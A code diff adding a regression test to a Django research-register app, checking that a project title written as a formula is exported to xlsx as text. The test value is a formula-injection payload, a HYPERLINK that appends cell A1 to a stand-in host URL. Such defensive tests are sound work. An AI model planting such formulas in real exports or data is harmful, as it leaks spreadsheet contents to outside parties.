@@ -17,6 +17,7 @@ from cnqp.core.choices import Classification
 from cnqp.core.models import AuditEntry, User
 from cnqp.documents.factories import ProductTypeFactory
 from cnqp.research.choices import ProjectStatus, Step
+from cnqp.research.factories import ResearchProjectFactory
 from cnqp.research.imports import ProjectRegisterImporter, register_xlsx
 from cnqp.research.models import ProjectEvent, ResearchProject
 from cnqp.research.report import research_figures
@@ -170,3 +171,14 @@ def test_import_page_and_register_download(org: Any, manager: User, client_for: 
     assert sheet is not None and sheet.cell(row=2, column=1).value == "DT-P"
     assert AuditEntry.objects.filter(action="export",
                                      object_type="research.researchproject").exists()
+
+
+@pytest.mark.django_db
+def test_a_title_written_as_a_formula_is_exported_as_text(org: Any, manager: User) -> None:
+    """A title starting with "=" was written as a live formula into register.xlsx."""
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
+    ResearchProjectFactory(code="DT-F", title=formula)
+    sheet = load_workbook(io.BytesIO(register_xlsx(ResearchProject.objects.all()))).active
+    assert sheet is not None
+    cell = sheet.cell(row=2, column=2)
+    assert (cell.value, cell.data_type) == (formula, "s")
